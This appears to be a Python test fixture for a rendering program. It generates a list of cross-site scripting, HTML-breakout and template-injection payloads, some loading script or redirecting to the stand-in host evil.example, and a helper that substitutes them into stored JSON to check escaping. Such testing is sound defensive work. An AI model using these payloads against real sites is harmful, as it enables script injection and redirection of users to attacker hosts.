"""Texts that want to become more than text: markup, addresses, templates, each leaving a mark where it succeeds."""

from __future__ import annotations

from collections.abc import Collection, Iterator
from typing import Any

EXECUTES = "window.hacked=1"
MARK = "data-injected"
FOREIGN = "https://evil.example/"

_BODIES = (
    f"<script>{EXECUTES}</script>",
    f"<script {MARK} src={FOREIGN}x.js></script>",
    f"<img {MARK} src=x onerror={EXECUTES}>",
    f"<svg {MARK} onload={EXECUTES}>",
    f"<svg><animate {MARK} onbegin={EXECUTES} attributeName=x dur=1s></svg>",
    f'<iframe {MARK} srcdoc="<script>parent.{EXECUTES}</script>"></iframe>',
    f"<a {MARK} href=javascript:{EXECUTES}>link</a>",
    f"<a {MARK} href={FOREIGN}>link</a>",
    f"<details {MARK} open ontoggle={EXECUTES}>",
    f"<input {MARK} autofocus onfocus={EXECUTES}>",
    f"<video {MARK}><source onerror={EXECUTES}></video>",
    f"<body {MARK} onpageshow={EXECUTES}>",
    f"<form {MARK} action={FOREIGN}><button>Send</button></form>",
    f"<object {MARK} data={FOREIGN}></object>",
    f"<base {MARK} href={FOREIGN}>",
    f'<meta {MARK} http-equiv=refresh content="0;url={FOREIGN}">',
    f"<style {MARK}>@import '{FOREIGN}';</style>",
    f'<math {MARK}><mtext><img src=x onerror="{EXECUTES}"></mtext></math>',
    f"<b {MARK} style=\"background:url('{FOREIGN}')\">bold</b>",
    f"<template {MARK}></template><noscript><p title='</noscript><img src=x onerror={EXECUTES}>'>",
)
_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
)
_OTHERS = (
    f'" onmouseover="{EXECUTES}" {MARK}="',
    f"' onfocus='{EXECUTES}' autofocus {MARK}='",
    f"javascript:{EXECUTES}",
    "{{ 7|add:7 }}{% debug %}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "\\u003cscript\\u003e" + EXECUTES + "\\u003c/script\\u003e",
    "&lt;script&gt;" + EXECUTES + "&lt;/script&gt;",
    "%3Cscript%3E" + EXECUTES + "%3C/script%3E",
    "＜script＞" + EXECUTES + "＜/script＞",
    "\u202egpj.\u202c<b data-injected>",
    f'<a href="{FOREIGN}">click</a>',
    f"<a href='javascript&colon;{EXECUTES}'>click</a>",
)

# Those of one kind lie apart, so that any few of them are of several kinds.
HOSTILE_TEXTS: tuple[str, ...] = _OTHERS + tuple(before + body for before in _BREAKS for body in _BODIES)

KEPT_OF_EDITION = ("language", "outcome", "key", "charts", "judged", "found")
KEPT_OF_CHART = ("key", "mark", "tone", "as_of", "table")
"""What the program itself reads, of an edition as it was stored and of its charts."""


def put_into(stored: Any, texts: Iterator[str], *, kept: Collection[str]) -> Any:
    """Put a text in the place of every one in this JSON, but in those members that are kept."""
    if isinstance(stored, dict):
        return {
            name: one if name in kept else put_into(one, texts, kept=kept) for name, one in stored.items()
        }
    if isinstance(stored, list):
        return [put_into(one, texts, kept=kept) for one in stored]
    return next(texts) if isinstance(stored, str) else stored
